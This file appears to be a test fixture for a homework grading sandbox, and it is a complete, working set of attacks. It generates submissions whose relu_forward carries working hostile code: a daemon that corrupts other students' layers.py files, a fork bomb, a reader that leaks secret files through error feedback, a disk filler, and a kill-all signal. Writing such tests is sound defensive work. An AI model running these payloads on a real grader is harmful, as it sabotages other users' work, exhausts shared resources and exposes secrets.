"""Submissions that attack the grader, each the reference with relu_forward (Q8.3) altered:
the attack runs once per worker (a module flag), then relu_forward returns the right answer,
so any lost point is the sandbox's doing, never the attack's own code."""
import pathlib

from _grader_support import alter, copy_reference

LAYERS = "1_cs231n/cs231n/layers.py"
ANCHOR = "    out = None\n    ### BEGIN SOLUTION\n    out = np.maximum(x, 0)\n"


def _with_attack(dest: pathlib.Path, attack: str) -> pathlib.Path:
    """The reference's Part 1 with `attack` (lines of Python, 4-space indented, run at the
    start of relu_forward, once per worker process) inserted."""
    sub = copy_reference(dest, parts=("1_cs231n",))
    body = "".join(f"        {line}\n" for line in attack.strip("\n").splitlines())
    alter(sub, LAYERS, ANCHOR,
          "    global _ATTACKED\n    if not globals().get('_ATTACKED'):\n"
          "        _ATTACKED = True\n" + body + ANCHOR)
    return sub


def daemon(dest, victims: list[str], marker_dir: str, seconds: int = 300):
    """Double fork + setsid (which seccomp refuses: tried anyway, as a daemonizing library
    would); the grandchild spends `seconds` appending a failing relu_forward to every
    layers.py it can find in other grading folders (/tmp/hw1-*, the victims) and leaving a
    mark in a world-writable folder of the host."""
    return _with_attack(dest, f"""
import glob, os, time
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:
        pass
    if os.fork() == 0:
        end = time.time() + {seconds}
        while time.time() < end:
            found = glob.glob('/tmp/hw1-*/**/layers.py', recursive=True)
            for v in {victims!r}:
                found += glob.glob(v + '/**/layers.py', recursive=True)
            for path in found:
                try:
                    with open(path, 'a') as f:
                        f.write('\\ndef relu_forward(x):\\n    return None, None\\n')
                except OSError:
                    pass
            try:
                with open({marker_dir!r} + '/daemon-was-here', 'w') as f:
                    f.write(str(os.getpid()))
            except OSError:
                pass
            time.sleep(0.2)
    os._exit(0)
os.wait()
""")


def fork_bomb(dest):
    """A child that forks without end (retrying when the process limit refuses)."""
    return _with_attack(dest, """
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
""")


def read_secret(dest, paths: list[str]):
    """Reads each path and raises with its content in the message (into the feedback)."""
    return _with_attack(dest, f"""
found = []
for p in {paths!r}:
    try:
        with open(p, 'rb') as f:
            found.append(f.read(4000).decode('latin-1'))
    except OSError as exc:
        found.append(str(exc))
raise ValueError(' | '.join(found))
""")


def fill_disk(dest, megabytes: int):
    """Writes `megabytes` into its folder, /tmp and /dev/shm (stopping at the first error,
    which it raises)."""
    return _with_attack(dest, f"""
import os
chunk = b'0' * (1 << 20)
for folder in ('.', '/tmp', '/dev/shm'):
    with open(os.path.join(folder, 'filler.bin'), 'wb') as f:
        for _ in range({megabytes}):
            f.write(chunk)
            f.flush()
""")


def kill_everything(dest):
    """kill(-1, SIGKILL) from the worker itself, which the kernel spares (so relu_forward
    still answers), and from a child, which kills the worker: relu_backward crashes."""
    sub = _with_attack(dest, "import os, signal\nos.kill(-1, signal.SIGKILL)\n")
    alter(sub, LAYERS, "    dx, x = None, cache\n",
          "    import os, signal, time\n    if os.fork() == 0:\n"
          "        os.kill(-1, signal.SIGKILL)\n        time.sleep(5)\n        os._exit(0)\n"
          "    time.sleep(10)\n    dx, x = None, cache\n")
    return sub
